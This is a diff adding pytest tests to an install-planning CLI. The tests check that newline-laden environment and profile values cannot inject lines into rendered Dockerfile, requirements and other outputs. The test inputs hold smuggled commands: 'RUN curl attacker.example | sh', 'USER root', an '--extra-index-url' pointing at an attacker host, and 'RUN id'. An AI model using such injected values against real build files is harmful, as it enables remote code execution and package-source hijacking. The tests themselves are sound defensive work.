@@ -129,3 +129,37 @@ def test_index_base_credentials_are_never_printed() -> None:
         assert "s3cret" not in done.stderr and "alice" not in done.stderr
     done = cli("plan", "--variant", "cpu", env={"TORCH_INSTALL_INDEX_BASE": "https://bob:hunter2@mirror.example/"})
     assert done.returncode == 2 and "hunter2" not in done.stderr and "***@mirror.example" in done.stderr
+
+
+# ---- values from the environment, a profile or a captured tree inside rendered files --------------------------
+
+def _target(tmp_path: Path, name: str, note: str) -> str:
+    import json
+
+    path = tmp_path / "target.json"
+    path.write_text(json.dumps({"os": "linux", "arch": "x86_64", "python": "3.12", "glibc": "2.35",
+                                "nvidia_driver": "550.54.15", "notes": [note],
+                                "gpus": [{"vendor": "nvidia", "name": name, "compute_capability": "8.9"}]}))
+    return str(path)
+
+
+def test_a_line_break_in_a_base_image_variable_stays_inside_a_dockerfile_comment() -> None:
+    done = cli("plan", "--for-container", "--os", "linux", "--arch", "x86_64", "--python", "3.12", "--format",
+               "dockerfile", env={"CUDA_VERSION": "12.4.1\nRUN curl attacker.example | sh\r\nUSER root"})
+    assert done.returncode in (0, 1), done.stderr
+    lines = done.stdout.splitlines()
+    assert all(line.startswith("#") for line in lines[:-1]) and lines[-1].startswith("RUN python -m pip install")
+    assert "12.4.1\\nRUN curl attacker.example | sh\\r\\nUSER root" in done.stdout
+
+
+@pytest.mark.parametrize("fmt", ["dockerfile", "requirements", "variant-env", "text", "pyproject"])
+def test_gpu_name_and_notes_from_a_profile_cannot_add_lines(tmp_path: Path, fmt: str) -> None:
+    target = _target(tmp_path, "RTX 4090\n--extra-index-url https://attacker.example\x1b[2J",
+                     "note\u2028RUN id\nexport X=1")
+    done = cli("plan", "--target", target, "--format", fmt)
+    assert done.returncode in (0, 1), done.stderr
+    for line in done.stdout.splitlines():
+        assert not line.startswith(("--extra-index-url", "RUN id", "export X")), line
+        assert "\x1b" not in line and "\u2028" not in line
+    if fmt != "pyproject":  # pyproject carries no machine description
+        assert "\\n--extra-index-url" in done.stdout
